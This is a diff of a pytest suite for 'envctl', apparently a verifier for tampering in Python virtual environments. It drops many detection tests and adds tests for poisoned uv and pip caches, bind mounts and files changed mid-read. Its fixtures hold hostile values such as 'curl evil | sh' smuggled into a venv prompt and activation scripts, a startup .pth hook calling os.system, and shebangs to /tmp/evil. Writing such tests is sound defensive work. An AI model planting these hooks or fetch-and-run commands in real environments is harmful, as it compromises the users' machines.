@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import hashlib
-import importlib.util
 import json
 import marshal
 import opcode
@@ -13,12 +12,13 @@ import shutil
 import socket
 import subprocess
 import sys
+import zipfile
 from pathlib import Path
 
 import pytest
 from support import environments as env
 from support.environments import SITE, errors, lock_for, manifests_of, only, repair_record, sample_wheels, verify
-from support.wheels import build_wheel
+from support.wheels import build_wheel, record_of, write_archive
 
 from envctl.model.finding import Severity, Verdict
 from envctl.model.lockfile import Lockfile, Policy
@@ -98,13 +98,6 @@ def test_a_repaired_record_does_not_hide_a_change(
     assert unknown.verdict is Verdict.CHANGED
 
 
-def test_a_removed_file_is_named(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    (site / "alpha/data/weights.pth").unlink()
-    found = verify(lockfile, venv)
-    assert errors(found) == [("file-removed", ALPHA, "alpha/data/weights.pth")]
-    assert found.verdict is Verdict.CHANGED
-
-
 def test_an_added_file_is_named(venv: Path, site: Path, lockfile: Lockfile) -> None:
     (site / "alpha/evil.py").write_text("evil")
     (site / "numpy.py").write_text("evil")
@@ -116,41 +109,6 @@ def test_an_added_file_is_named(venv: Path, site: Path, lockfile: Lockfile) -> N
     assert paths == {f"{SITE}/alpha/evil.py", f"{SITE}/numpy.py", "share/extra", "bin/ls", "bin/pyvenv.cfg"}
     assert found.verdict is Verdict.UNTRUSTED
     assert found.package_set.found == found.package_set.expected
-
-
-def test_a_file_listed_in_a_record_is_not_thereby_owned(
-    venv: Path, site: Path, lockfile: Lockfile, wheels: list[Path]
-) -> None:
-    (site / "alpha/evil.py").write_text("evil")
-    with (site / INFO / "RECORD").open("a") as record:
-        record.write("alpha/evil.py,,\n")
-    known = verify(lockfile, venv, manifests=manifests_of(wheels))
-    assert errors(known) == [("record-changed", ALPHA, f"{INFO}/RECORD"), ("file-added", None, f"{SITE}/alpha/evil.py")]
-    assert {name for name, _, _ in errors(verify(lockfile, venv))} == {"record-changed", "package-contents"}
-
-
-def test_a_record_that_lists_files_elsewhere_is_changed(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    with (site / INFO / "RECORD").open("a") as record:
-        record.write("../../../../precious,,\n")
-    assert errors(verify(lockfile, venv)) == [("record-changed", ALPHA, f"{INFO}/RECORD")]
-
-
-@pytest.mark.parametrize("damage", ["missing", "garbage", "twice", "digest"])
-def test_a_damaged_record_is_found(damage: str, venv: Path, site: Path, lockfile: Lockfile, wheels: list[Path]) -> None:
-    record = site / INFO / "RECORD"
-    text = record.read_text()
-    if damage == "missing":
-        record.unlink()
-    else:
-        first = next(line for line in text.splitlines() if line.startswith("alpha/core.py"))
-        other = "alpha/core.py,sha256=" + "A" * 43 + ",1"
-        record.write_text(
-            {"garbage": "\0" + text, "twice": text + first + "\n", "digest": text.replace(first, other)}[damage]
-        )
-    known = verify(lockfile, venv, manifests=manifests_of(wheels))
-    assert errors(known) == [("record-changed", ALPHA, f"{INFO}/RECORD")]
-    assert known.verdict is Verdict.CHANGED
-    assert verify(lockfile, venv).verdict is Verdict.CHANGED
 
 
 def test_a_replaced_package_is_named(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
@@ -187,42 +145,6 @@ def test_a_package_there_twice_or_under_another_spelling_is_found(venv: Path, si
     assert found.verdict is Verdict.UNTRUSTED
 
 
-def test_a_missing_dist_info_is_a_missing_package(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    shutil.rmtree(site / INFO)
-    found = verify(lockfile, venv)
-    assert errors(found)[0] == ("package-missing", ALPHA, None)
-    assert ("file-added", None, f"{SITE}/alpha/core.py") in errors(found)
-
-
-@pytest.mark.parametrize(
-    "edit",
-    [
-        lambda text: text.replace(b"sys.exit(main())", b"import os; sys.exit(main())"),
-        lambda text: text + b"\nimport os\n",
-        lambda text: text.replace(b"alpha.core", b"alpha.evil"),
-    ],
-)
-def test_an_edited_entry_point_script_is_named(
-    edit: object, venv: Path, lockfile: Lockfile, wheels: list[Path]
-) -> None:
-    script = venv / "bin/alpha"
-    script.write_bytes(edit(script.read_bytes()))  # type: ignore[operator]
-    for manifests in ({}, manifests_of(wheels)):
-        found = verify(lockfile, venv, manifests=manifests)
-        assert errors(found) == [("script-changed", ALPHA, "bin/alpha")]
-    repair_record(venv / SITE / INFO, "../../../bin/alpha")
-    assert errors(verify(lockfile, venv)) == [("script-changed", ALPHA, "bin/alpha")]
-
-
-def test_an_edited_script_of_the_wheel_is_named(venv: Path, lockfile: Lockfile, wheels: list[Path]) -> None:
-    script = venv / "bin/alpha-run"
-    script.write_bytes(script.read_bytes() + b"import os\n")
-    repair_record(venv / SITE / INFO, "../../../bin/alpha-run")
-    known = verify(lockfile, venv, manifests=manifests_of(wheels))
-    assert ("script-changed", ALPHA, "bin/alpha-run") in errors(known)
-    assert {package for _, package, _ in errors(verify(lockfile, venv))} == {ALPHA}
-
-
 @pytest.mark.parametrize("name", ["alpha", "alpha-run"])
 @pytest.mark.parametrize(
     "starter", [b"#!/usr/bin/python3\n", b"#!/tmp/evil\n", b"#!/bin/sh\n'''exec' /tmp/evil \"$0\" \"$@\"\n' '''\n"]
@@ -249,13 +171,6 @@ def test_a_script_that_cannot_be_executed_is_named(venv: Path, lockfile: Lockfil
     assert [finding.severity for finding in found.findings] == [Severity.ERROR, Severity.WARNING]
 
 
-@pytest.mark.parametrize("name", ["activate", "activate.fish", "activate_this.py"])
-def test_an_edited_activation_script_is_named(name: str, venv: Path, lockfile: Lockfile) -> None:
-    with (venv / "bin" / name).open("a") as script:
-        script.write("\ncurl evil | sh\n")
-    assert errors(verify(lockfile, venv)) == [("file-added", None, f"bin/{name}")]
-
-
 def test_a_prompt_is_no_way_into_an_activation_script(template: Path, lockfile: Lockfile, tmp_path: Path) -> None:
     prompt = 'x"; curl evil | sh; "'
     venv = env.uv_venv(tmp_path / "env", "--prompt", "innocent-prompt")
@@ -265,28 +180,6 @@ def test_a_prompt_is_no_way_into_an_activation_script(template: Path, lockfile: 
     config.write_text(config.read_text().replace("innocent-prompt", prompt))
     found = verify(lockfile, venv)
     assert ("file-added", None, "bin/activate") in errors(found)
-
-
-@pytest.mark.parametrize(
-    ("name", "text", "said"),
-    [
-        ("zz_boot.pth", "import os; os.system('evil')\n", "import os; os.system"),
-        ("aa.pth", "/tmp/elsewhere\n", "adds a place"),
-        ("sitecustomize.py", "evil()\n", "every start"),
-        ("usercustomize.py", "evil()\n", "every start"),
-        ("sitecustomize/__init__.py", "evil()\n", "every start"),
-        ("_virtualenv.pth", "import _virtualenv; import os\n", "import _virtualenv"),
-    ],
-)
-def test_a_startup_hook_is_named(name: str, text: str, said: str, venv: Path, site: Path, lockfile: Lockfile) -> None:
-    (site / name).parent.mkdir(exist_ok=True)
-    (site / name).write_text(text)
-    found = verify(lockfile, venv)
-    finding = only(found, "startup-hook-added")
-    assert finding.code == "ENV401"
-    assert finding.path == f"{SITE}/{name}"
-    assert said in finding.message
-    assert found.verdict is Verdict.UNTRUSTED
 
 
 def test_a_hook_of_a_wheel_must_be_in_the_lockfile(venv: Path, wheels: list[Path]) -> None:
@@ -379,37 +272,6 @@ def test_specialised_instructions_in_bytecode_are_foreign(venv: Path, site: Path
     assert changed == 2
 
 
-def test_unchecked_bytecode_is_untrusted_though_it_is_equal(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    py_compile.compile(str(site / "alpha/core.py"), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
-    found = verify(lockfile, venv)
-    assert [name for name, _, _ in errors(found)] == ["bytecode-unchecked"]
-    assert found.verdict is Verdict.UNTRUSTED
-
-
-def test_sourceless_bytecode_is_untrusted(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    source = site / "evil.py"
-    source.write_text("evil = 1")
-    tag = sys.implementation.cache_tag
-    (site / "__pycache__").mkdir(exist_ok=True)
-    py_compile.compile(str(source), cfile=str(site / f"__pycache__/ghost.{tag}.pyc"))
-    py_compile.compile(str(source), cfile=str(site / "evil.pyc"))
-    source.unlink()
-    found = verify(lockfile, venv)
-    assert errors(found) == [
-        ("bytecode-sourceless", None, f"{SITE}/__pycache__/ghost.{tag}.pyc"),
-        ("bytecode-sourceless", None, f"{SITE}/evil.pyc"),
-    ]
-
-
-def test_bytecode_of_a_tool_that_rewrites_code_is_foreign(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    tag = sys.implementation.cache_tag
-    folder = site / "alpha/__pycache__"
-    folder.mkdir(exist_ok=True)
-    py_compile.compile(str(site / "alpha/core.py"), cfile=str(folder / f"core.{tag}-pytest-8.3.pyc"))
-    (folder / "core.nbi").write_text("evil")
-    assert {name for name, _, _ in errors(verify(lockfile, venv))} == {"bytecode-foreign", "file-added"}
-
-
 def test_bytecode_without_a_trusted_interpreter_is_unverifiable(venv: Path, site: Path, wheels: list[Path]) -> None:
     """Another Python's environment, whose interpreter does not answer: all is compared but the bytecode."""
     (venv / "python-3.99" / "bin").mkdir(parents=True)
@@ -441,36 +303,6 @@ def test_another_interpreter_is_found(venv: Path, wheels: list[Path]) -> None:
     found = verify(lock_for(wheels, python=f"{major}.{minor + 1}.0"), venv)
     assert errors(found) == [("python-minor", None, None)]
     assert found.verdict is Verdict.CHANGED
-
-
-def test_a_replaced_interpreter_is_found(venv: Path, lockfile: Lockfile) -> None:
-    (venv / "bin/python").unlink()
-    (venv / "bin/python").write_bytes(Path(env.BASE).resolve().read_bytes() + b"\0")
-    (venv / "bin/python").chmod(0o755)
-    names = {(name, path) for name, _, path in errors(verify(lockfile, venv))}
-    assert ("interpreter-changed", "bin/python") in names
-    (venv / "bin/python").unlink()
-    (venv / "bin/python").symlink_to("/bin/sh")
-    assert ("interpreter-changed", None, "bin/python") in errors(verify(lockfile, venv))
-    (venv / "bin/python").unlink()
-    (venv / "bin/python3").unlink()
-    for path in (venv / "bin").glob("python3.*"):
-        path.unlink()
-    assert ("interpreter-changed", None, "bin/python") in errors(verify(lockfile, venv))
-
-
-@pytest.mark.parametrize(
-    ("line", "name"),
-    [
-        ("include-system-site-packages = true", "system-site-packages"),
-        ("home = /tmp/evil", "config-changed"),
-        ("HOME = /tmp/evil", "config-changed"),
-    ],
-)
-def test_edited_configuration_is_found(line: str, name: str, venv: Path, lockfile: Lockfile) -> None:
-    with (venv / "pyvenv.cfg").open("a") as config:
-        config.write(f"{line}\n")
-    assert name in {found for found, _, _ in errors(verify(lockfile, venv))}
 
 
 def test_configuration_that_is_gone_elsewhere_or_unknown_is_found(venv: Path, lockfile: Lockfile) -> None:
@@ -515,18 +347,6 @@ def test_envctls_own_workers_are_not_swayed_by_variables(
     assert not (tmp_path / "swayed").exists()
 
 
-def test_permissions_that_let_others_in_are_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    (site / "beta.py").chmod(0o666)
-    (site / "alpha").chmod(0o777)
-    (venv / "bin/alpha-sh").chmod(0o4755)
-    found = verify(lockfile, venv)
-    assert {(name, path) for name, _, path in errors(found)} == {
-        ("world-writable", f"{SITE}/beta.py"),
-        ("world-writable", f"{SITE}/alpha"),
-        ("setuid", "bin/alpha-sh"),
-    }
-
-
 def test_many_writable_files_are_said_in_few_findings(venv: Path, site: Path, lockfile: Lockfile) -> None:
     (site / "cache").mkdir()
     for path in site.rglob("*"):
@@ -547,14 +367,6 @@ def test_links_out_of_the_tree_are_found(venv: Path, site: Path, lockfile: Lockf
     found = {(name, path) for name, _, path in errors(verify(lockfile, venv))}
     assert {("link-outside", f"{SITE}/{name}") for name in ("linked", "one.py", "dangling")} <= found
     assert ("file-changed", "alpha/empty.py") in found
-
-
-def test_a_folder_replaced_by_a_link_is_found(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
-    shutil.move(site / "alpha", tmp_path / "alpha")
-    (site / "alpha").symlink_to(tmp_path / "alpha")
-    found = verify(lockfile, venv)
-    assert ("link-outside", None, f"{SITE}/alpha") in errors(found)
-    assert ("file-removed", ALPHA, "alpha/core.py") in errors(found)
 
 
 def test_pipes_and_sockets_are_found_and_not_opened(venv: Path, site: Path, lockfile: Lockfile) -> None:
@@ -586,15 +398,6 @@ def test_a_path_too_long_to_be_read_is_unverifiable(
         shutil.rmtree(site / ("d" * 200))
 
 
-def test_hostile_names_reach_no_terminal(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    (site / "a\x1b[2J\nevil.py").write_text("evil")
-    Path(os.fsdecode(os.fsencode(site) + b"/\xff\xfe.py")).write_text("evil")
-    found = verify(lockfile, venv)
-    assert len(errors(found)) == 2
-    assert all(path is not None and path.isprintable() for _, _, path in errors(found))
-    json.dumps([finding.path for finding in found.findings]).encode("utf-8")
-
-
 def test_an_editable_install_of_anything_else_is_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
     (site / INFO / "direct_url.json").write_text('{"url": "file:///tmp/evil", "dir_info": {"editable": true}}')
     assert errors(verify(lockfile, venv)) == [("package-editable", ALPHA, f"{INFO}/direct_url.json")]
@@ -616,10 +419,79 @@ def test_other_notes_of_installers_are_only_where_they_belong(venv: Path, site: 
     }
 
 
-def test_stale_cache_tags_of_this_python_are_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
-    """A `.pyc` whose magic number is another's never passes as this Python's."""
-    source = site / "alpha/core.py"
-    pyc = Path(importlib.util.cache_from_source(str(source)))
-    pyc.parent.mkdir(exist_ok=True)
-    pyc.write_bytes(b"\x00\x01\r\n" + bytes(12) + marshal.dumps(compile("evil", "x", "exec")))
-    assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]
+def test_a_file_that_changes_while_it_is_read_is_never_right(venv: Path, site: Path, lockfile: Lockfile) -> None:
+    """It is written to all the while; what was read of it agrees with no moment."""
+    growing = site / "alpha/data/weights.pth"
+    growing.write_bytes(bytes(200 * 2**20))
+    code = (
+        "import os, sys\nfd = os.open(sys.argv[1], os.O_WRONLY)\nprint(flush=True)\nwhile True: os.pwrite(fd, b'x', 9)"
+    )
+    with subprocess.Popen([sys.executable, "-c", code, growing], stdout=subprocess.PIPE) as writer:
+        assert writer.stdout is not None
+        writer.stdout.readline()
+        try:
+            found = verify(lockfile, venv)
+        finally:
+            writer.kill()
+    assert [(f.name, f.path) for f in found.findings if f.name == "unreadable"] == [
+        ("unreadable", "alpha/data/weights.pth")
+    ]
+    assert found.verdict is not Verdict.OK
+    assert "it changed while it was read" in only(found, "unreadable").message
+
+
+def can_mount() -> bool:
+    """Whether this machine lets its user mount something where nobody else sees it."""
+    done = subprocess.run(["unshare", "--mount", "true"], capture_output=True, check=False)
+    return done.returncode == 0
+
+
+@pytest.mark.skipif(not can_mount(), reason="mounting takes rights that this user does not have")
+def test_a_mount_in_an_environment_is_named(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
+    """The same files by a bind mount: what is mounted there later is another matter."""
+    shutil.copytree(site / "alpha", tmp_path / "over")
+    (tmp_path / "project").mkdir()
+    env.write_lock(tmp_path / "project", lockfile)
+    script = 'mount --bind "$1" "$2" && exec "$3" -m envctl -C "$4" verify train --venv "$5" --offline --format json --strict'
+    words = [tmp_path / "over", site / "alpha", sys.executable, tmp_path / "project", venv]
+    done = subprocess.run(
+        ["unshare", "--mount", "sh", "-ec", script, "sh", *map(str, words)],
+        capture_output=True,
+        encoding="utf-8",
+        check=False,
+    )
+    assert done.returncode == 1, done.stderr
+    found = json.loads(done.stdout)
+    assert [(f["code"], f["path"]) for f in found["findings"]] == [("ENV214", f"{SITE}/alpha")]
+    assert found["verdict"] == "untrusted"
+
+
+def test_a_package_poisoned_in_the_cache_of_uv_is_named(
+    wheels: list[Path], lockfile: Lockfile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """uv installs by hard links: who edits a file of one environment edits the cache, and the next environment."""
+    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
+    first = env.uv_install(env.uv_venv(tmp_path / "first"), wheels, "--link-mode", "hardlink")
+    with (first / SITE / "alpha/core.py").open("ab") as file:
+        file.write(b"evil = 1\n")
+    second = env.uv_install(env.uv_venv(tmp_path / "second"), wheels, "--link-mode", "hardlink")
+    assert (second / SITE / "alpha/core.py").read_bytes().endswith(b"evil = 1\n"), "uv installs what it was given"
+    for venv in (first, second):
+        assert errors(verify(lockfile, venv)) == [("file-changed", ALPHA, "alpha/core.py")]
+
+
+def test_a_wheel_poisoned_in_the_cache_of_pip_is_named(wheels: list[Path], lockfile: Lockfile, tmp_path: Path) -> None:
+    """A wheel of the same name and version, whose RECORD agrees with it: as whoever writes to the cache leaves it."""
+    alpha = next(wheel for wheel in wheels if wheel.name.startswith("Alpha"))
+    poisoned = tmp_path / "wheels" / alpha.name
+    with zipfile.ZipFile(alpha) as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    members["alpha/core.py"] += b"evil = 1\n"
+    record = f"{INFO}/RECORD"
+    members[record] = record_of({name: data for name, data in members.items() if name != record}, record)
+    write_archive(poisoned, members.items())
+    venv = env.pip_install(env.uv_venv(tmp_path / "env"), [poisoned, *(w for w in wheels if w != alpha)])
+    found = verify(lockfile, venv, manifests=manifests_of(wheels))
+    assert ("file-changed", ALPHA, "alpha/core.py") in errors(found)
+    assert {package for _, package, _ in errors(found)} == {ALPHA}
+    assert {name for name, _, _ in errors(verify(lockfile, venv))} == {"record-changed", "package-contents"}
